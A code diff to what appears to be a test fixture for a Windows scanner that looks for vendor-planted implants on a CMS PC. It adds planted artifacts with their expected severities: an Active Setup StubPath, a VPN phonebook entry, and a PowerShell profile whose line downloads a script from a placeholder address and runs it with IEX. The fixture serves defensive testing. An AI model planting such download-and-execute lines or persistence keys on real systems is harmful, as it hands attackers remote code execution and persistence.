@@ -80,6 +80,9 @@ IMPLANTS = (
     ("windows.firewall-inbound", "Crane VNC", Severity.HIGH),
     ("windows.firewall-off", "public profile", Severity.HIGH),
     ("windows.local-account", "Guest (RID 501) needs no password", Severity.HIGH),
+    ("windows.active-setup", "firstlogon.exe", Severity.HIGH),
+    ("windows.powershell-profile", "profile.ps1", Severity.CRITICAL),
+    ("windows.vpn-outside", "vpn.cranevendor-service.com", Severity.HIGH),
     ("windows.local-account", "Administrator (RID 500) is the built-in Administrator", Severity.MEDIUM),
 )
 
@@ -96,7 +99,7 @@ FIREWALL = "ControlSet001\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
 
 
 def implant_tree(shared: Path, root: Path) -> Path:
-    """The stock tree plus twenty-two implants of a CMS PC a vendor set up for remote service."""
+    """The stock tree plus twenty-five implants of a CMS PC a vendor set up for remote service."""
     stock_tree(shared, root)
     config = root / "Windows/System32/config"
     cs = "ControlSet001"  # Select\Current of this hive is 1
@@ -127,6 +130,8 @@ def implant_tree(shared: Path, root: Path) -> Path:
         ("Microsoft\\Windows NT\\CurrentVersion\\Windows", "AppInit_DLLs", REG_SZ, "C:\\ProgramData\\CraneSync\\cmshook.dll"),
         ("Microsoft\\Windows NT\\CurrentVersion\\Windows", "LoadAppInit_DLLs", REG_DWORD, 1),
         ("Microsoft\\Windows\\CurrentVersion\\Uninstall\\AnyDesk", "DisplayName", REG_SZ, "AnyDesk"),
+        ("Microsoft\\Active Setup\\Installed Components\\{8C1D3A2E-7B4F-4E1A-9D55-CRANE0000001}", "StubPath", REG_SZ,
+         "C:\\ProgramData\\CraneSync\\firstlogon.exe /q"),
         ("Microsoft\\Windows\\CurrentVersion\\Uninstall\\AnyDesk", "InstallLocation", REG_SZ,
          "C:\\Program Files (x86)\\AnyDesk"),
     ])
@@ -149,6 +154,11 @@ def implant_tree(shared: Path, root: Path) -> Path:
           "support@203.0.113.60 -pw vendor\r\n")
     write(root, "Windows/Panther/unattend.xml", UNATTEND)
     write(root, "Windows/System32/drivers/etc/hosts", STOCK_HOSTS_PLUS)
+    write(root, "Windows/System32/WindowsPowerShell/v1.0/profile.ps1",
+          "Set-StrictMode -Off\r\nIEX (New-Object Net.WebClient).DownloadString('https://203.0.113.52/p.ps1')\r\n")
+    write(root, "ProgramData/Microsoft/Network/Connections/Pbk/rasphone.pbk",
+          "[Vendor Service VPN]\r\nEncoding=1\r\nType=2\r\nPhoneNumber=vpn.cranevendor-service.com\r\n"
+          "VpnStrategy=7\r\n")
     write(root, "ProgramData/Microsoft/WwanSvc/Profiles/{6C1E2A1B-0F3D-4C55-9E21-3B5A7D0C9F10}.xml", WWAN_PROFILE)
     return root
 
